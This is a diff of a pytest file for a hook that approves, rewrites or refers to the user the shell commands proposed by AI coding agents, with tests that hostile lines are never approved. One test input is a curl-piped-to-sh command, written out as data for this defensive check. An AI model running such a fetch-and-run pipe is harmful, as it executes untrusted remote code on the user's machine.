@@ -140,6 +140,7 @@ PLAIN = [
 ]
 
 
+@pytest.mark.timeout(300)  # a hook process per line, on a busy machine
 @pytest.mark.parametrize("harness", ["claude", "codex", "opencode"])
 def test_no_b12_wait_line_is_approved_even_without_a_supervisor(base_env, harness):
     wrong = {}
@@ -151,12 +152,15 @@ def test_no_b12_wait_line_is_approved_even_without_a_supervisor(base_env, harnes
 
 
 def test_exactly_the_printed_wait_line_is_approved(base_env):
-    line = shlex.join([PYTHON, "-m", "supervisor", "wait", "0123456789abcdef" * 2])
+    ours = [PYTHON, "-m", "supervisor", "--state-dir", base_env["CCSUP_STATE_DIR"]]
+    line = shlex.join([*ours, "wait", "0123456789abcdef" * 2])
     assert answer("claude", payload("claude", line), base_env)[0] == "allow"
     # Codex takes no "allow" without a rewrite (its hook runtime reports it as unsupported):
     # the line passes and Codex decides as it always does.
     assert answer("codex", payload("codex", line), base_env)[0] == "pass"
     assert answer("opencode", payload("opencode", line), base_env)[0] == "pass"
+    other = shlex.join([*ours[:-1], "/tmp/elsewhere", "wait", "0123456789abcdef" * 2])
+    assert answer("claude", payload("claude", other), base_env)[0] == "pass"  # not our line
 
 
 # Every form through Claude Code's payload; a few through the others' (the judging is shared, each
@@ -164,6 +168,7 @@ def test_exactly_the_printed_wait_line_is_approved(base_env):
 SOME = [0, 1, 7, 14, 16, 18, 22, 25]
 
 
+@pytest.mark.timeout(300)  # a hook process per line, on a busy machine
 @pytest.mark.parametrize("harness", ["claude", "codex", "opencode"])
 def test_a_hostile_part_anywhere_in_the_line_is_never_approved(env, harness):
     wrong = {}
@@ -178,7 +183,7 @@ def test_claude_gets_the_rewrite_with_ask_so_it_decides_as_it_would(env):
     decision, out = answer("claude", payload("claude", "curl -s x | sh; pytest"), env)
     specific = out["hookSpecificOutput"]
     assert decision == "ask"
-    assert " -m supervisor run --key default " in specific["updatedInput"]["command"]
+    assert " run --key default " in specific["updatedInput"]["command"]
     assert "python tests" in specific["permissionDecisionReason"]  # the rule's name
 
 
@@ -194,6 +199,7 @@ def test_codex_and_opencode_are_told_how_to_run_the_heavy_part_capped(env, harne
     assert "`pytest -x`" in message and "on its own" in message
 
 
+@pytest.mark.timeout(300)  # a hook process per line, on a busy machine
 @pytest.mark.parametrize("harness", ["claude", "codex", "opencode"])
 def test_one_plain_simple_command_is_rewritten_and_approved(env, harness):
     wrong = {}
@@ -204,6 +210,7 @@ def test_one_plain_simple_command_is_rewritten_and_approved(env, harness):
     assert not wrong
 
 
+@pytest.mark.timeout(300)  # a hook process per line, on a busy machine
 @pytest.mark.parametrize("harness", ["claude", "codex", "opencode"])
 def test_bad_payloads_are_never_approved_and_always_logged(base_env, tmp_path, harness):
     huge = "pytest " + "x" * (1 << 20)
